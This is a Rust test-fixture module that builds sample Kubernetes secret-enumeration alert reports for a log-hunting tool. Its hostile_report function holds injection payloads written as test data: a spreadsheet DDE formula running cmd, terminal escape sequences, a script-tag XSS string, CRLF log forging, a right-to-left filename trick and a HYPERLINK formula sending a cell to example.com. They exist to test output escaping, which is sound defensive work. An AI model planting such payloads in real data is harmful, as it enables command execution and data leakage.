//! Reports for the tests of the faces.

use serde_json::json;

use super::followed::MOST_USERS;
use crate::detect::alert::{Exclusion, Exposure, Principal, Versions};
use crate::detect::allow::{AllowUse, AllowedBy};
use crate::detect::{Alert, HuntReport, HuntSummary, Severity};

pub fn alert(username: &str) -> Alert {
    let secrets = |n: usize| (0..n).map(|n| format!("prod-1/payments/db-{n:02}")).collect();
    let uris = |n: usize| (0..n).map(|n| format!("/api/v1/namespaces/payments/secrets/db-{n:02}")).collect();
    Alert {
        rule_id: "kubernetes.bulk_secret_access".into(),
        alert_id: "1f0c6a2b9d3e4f50".into(),
        title: format!("Kubernetes Secret Enumeration by [{username}]"),
        severity: Severity::High,
        username: Some(username.into()),
        group: None,
        crossed_at: "2026-11-20T08:14:09.120045Z".into(),
        first_seen: "2026-11-20T08:02:11.000000Z".into(),
        last_seen: "2026-11-20T08:31:40.500000Z".into(),
        continuing: false,
        peak_distinct: 16,
        distinct_secrets: 16,
        counts: (0..48)
            .map(|slice: i64| if slice % 7 == 5 { 0 } else { (slice * 2 / 3 + 1).min(16) })
            .collect(),
        requests: 1018,
        succeeded: 1015,
        denied: 3,
        failed: 0,
        unknown: 0,
        verbs: vec!["get".into(), "list".into()],
        namespaces: vec!["kube-public".into(), "payments".into()],
        secrets: secrets(16),
        clusters: vec!["prod-1".into()],
        log_types: vec!["Amazon.EKS.Audit".into()],
        source_ips: vec!["10.0.4.17".into(), "203.0.113.9".into()],
        user_agents: vec!["kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46".into()],
        request_uris: uris(16),
        response_codes: vec![200, 403],
        resource: "secrets".into(),
        cluster_wide_lists: 1,
        cluster_wide_lists_succeeded: 0,
        namespace_lists: 2,
        namespace_lists_succeeded: 2,
        tactic: "TA0006".into(),
        technique: "T1552.007".into(),
        silenced_by: Vec::new(),
    }
}

/// An alert of one address and so many users, the last of whom has no name.
pub fn alert_of(users: usize) -> Alert {
    let names = (1..users).map(|n| json!(format!("user {n:03}"))).chain([json!(null)]);
    Alert {
        title: "Kubernetes Secret Enumeration by [203.0.113.9]".into(),
        username: None,
        group: json!({"source_ip": "203.0.113.9", "usernames": names.collect::<Vec<_>>()})
            .as_object()
            .cloned(),
        ..alert("")
    }
}

fn second_alert() -> Alert {
    let session = "arn:aws:sts::123456789012:assumed-role/PlatformAdministrator/mallory@example.com";
    Alert {
        alert_id: "a37700be12cd9981".into(),
        severity: Severity::Medium,
        continuing: true,
        group: json!({"cluster": "staging", "session": null}).as_object().cloned(),
        succeeded: 0,
        denied: 1018,
        ..alert(session)
    }
}

fn summary(alerts: i64) -> HuntSummary {
    HuntSummary {
        records: 1_204_551,
        requests: 1_180_020,
        matches: 4_310,
        users: 34,
        first_event: Some("2026-11-01T00:00:00.000000Z".into()),
        last_event: Some("2026-11-22T23:59:59.999999Z".into()),
        exclusions: vec![Exclusion {
            reason: "system:serviceaccount:kube-system:".into(),
            reads: 9_800,
            principals: 12,
        }],
        excluded_over_threshold: vec![Principal {
            username: Some("system:kube-controller-manager".into()),
            peak_distinct: 120,
            at: "2026-11-03T04:05:06.000000Z".into(),
            impersonated: true,
        }],
        nearest_miss: Some(Principal {
            username: None,
            peak_distinct: 14,
            at: "2026-11-09T10:00:00.000000Z".into(),
            impersonated: false,
        }),
        cluster_wide_lists: vec![Exposure {
            username: Some("bob".into()),
            lists: 3,
            succeeded: 2,
            first_seen: "2026-11-10T10:00:00.000000Z".into(),
            last_seen: "2026-11-11T10:00:00.000000Z".into(),
        }],
        namespace_wide_lists: vec![Exposure {
            username: Some("eve".to_owned()),
            lists: 3,
            succeeded: 2,
            first_seen: "2026-11-20T08:00:00.000000Z".to_owned(),
            last_seen: "2026-11-20T08:30:00.000000Z".to_owned(),
        }],
        coverage: None,
        alerts,
        silenced: 0,
        allow: Vec::new(),
    }
}

fn with(alerts: Vec<Alert>) -> HuntReport {
    HuntReport {
        schema: "kubetrawl/hunt/1".into(),
        versions: Versions { kubetrawl: "0.1.0".into(), duckdb: "v2.0.0".into() },
        parameters: json!({"rule": "Kubernetes.BulkSecretAccess", "threshold": 15}),
        summary: summary(alerts.len() as i64),
        alerts,
    }
}

pub fn report() -> HuntReport {
    with(vec![alert("alice"), second_alert()])
}

pub fn empty_report() -> HuntReport {
    with(Vec::new())
}

/// One alert to look at and one that is known, with an entry of each fate.
pub fn silenced_report() -> HuntReport {
    let used = |line: i64, expires: Option<&str>, expired, reads, silenced| AllowUse {
        entry: format!("allow.toml:{line}"),
        reason: "Vault syncs the secrets of every team".into(),
        owner: "platform@example.com".into(),
        expires: expires.map(str::to_owned),
        expired,
        reads,
        silenced,
    };
    let mut report = report();
    let vault = "system:serviceaccount:vault:sync";
    let by = AllowedBy {
        entry: "allow.toml:1".into(),
        reason: "Vault syncs the secrets of every team".into(),
        owner: "platform@example.com".into(),
    };
    let id = "5be1f0c6a2b9d3e4".into();
    report.alerts.truncate(1);
    report.alerts.push(Alert { alert_id: id, silenced_by: vec![by], ..alert(vault) });
    report.summary.alerts = 1;
    report.summary.silenced = 1;
    report.summary.allow = vec![
        used(1, None, false, 1018, 1),
        used(7, Some("2026-10-31"), true, 12, 0),
        used(14, None, false, 0, 0),
    ];
    report
}

/// An alert of one user and one of more than are followed, grouped by the address.
pub fn several_report() -> HuntReport {
    let group = json!({"source_ip": "10.0.4.17", "usernames": ["alice"]}).as_object().cloned();
    let first = Alert { group, ..alert("alice") };
    with(vec![first, Alert { alert_id: "a37700be12cd9981".into(), ..alert_of(MOST_USERS + 2) }])
}

/// Values that a terminal, a spreadsheet or a page would obey.
pub fn hostile_report() -> HuntReport {
    let escape = "\u{1b}]0;pwned\u{7}\u{1b}[2J\u{9b}31m";
    let mut first = alert(&format!("=cmd|' /C calc'!A0{escape}"));
    first.user_agents = vec![
        "evil\r\nalert  HIGH  forged".into(),
        "+1;@SUM(1+1)*cmd\\".into(),
        "</script><script>alert(1)</script>".into(),
        String::new(),
        "one, two".into(),
    ];
    first.namespaces =
        vec!["שלום".into(), "漢字漢字".into(), "👩\u{200d}💻".into(), "\u{202e}gnp.exe".into()];
    first.secrets = vec![format!("prod/{}/{}", "n".repeat(63), "s".repeat(253)), "\tx".into(), "\rx".into()];
    first.request_uris = vec!["=HYPERLINK(\"http://example.com/?\"&A1)".into(), "-2+3".into()];
    let mut second = alert("");
    second.username = None;
    second.source_ips = Vec::new();
    second.response_codes = Vec::new();
    with(vec![first, second])
}

/// The same, and an alert of more users of such names than are followed.
pub fn hostile_users_report() -> HuntReport {
    let mut report = hostile_report();
    let names = [HOSTILE; MOST_USERS + 1];
    let group = json!({"source_ip": HOSTILE, "usernames": names}).as_object().cloned();
    report.alerts.push(Alert { group, ..alert_of(2) });
    report
}

/// So many alerts by three hundred users over a month.
pub fn many(alerts: usize) -> HuntReport {
    with(
        (0..alerts)
            .map(|n| {
                let (day, hour, minute) = (n * 7 % 28 + 1, n % 24, n % 60);
                let mut alert = alert(&format!("user-{:03}", n % 300));
                alert.alert_id = format!("{n:016x}");
                alert.severity = if n % 3 == 0 { Severity::High } else { Severity::Medium };
                alert.peak_distinct = 15 + (n % 40) as i64;
                alert.first_seen = format!("2026-11-{day:02}T{hour:02}:{minute:02}:00.000000Z");
                alert.crossed_at = format!("2026-11-{day:02}T{hour:02}:{minute:02}:30.000000Z");
                alert.last_seen = format!("2026-11-{day:02}T{hour:02}:{minute:02}:59.000000Z");
                alert
            })
            .collect(),
    )
}

pub use super::sample_evidence::{HOSTILE, HostileSource, LargeSource, Source, grounds};
